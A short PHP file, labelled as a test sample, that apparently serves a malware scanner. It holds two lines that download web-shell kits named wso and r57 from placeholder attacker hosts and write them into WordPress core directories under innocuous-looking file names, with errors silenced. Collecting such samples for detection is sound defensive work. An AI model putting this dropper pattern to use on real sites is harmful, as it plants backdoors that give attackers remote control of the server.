<?php
// Test sample: copy() with a URL source straight into wp-includes.
@copy('http://evil.example/files/wso.txt', 'wp-includes/x.php');
@copy('https://cdn.evil.invalid/r57.txt', dirname(__FILE__) . '/../wp-admin/includes/admin-cache.php');
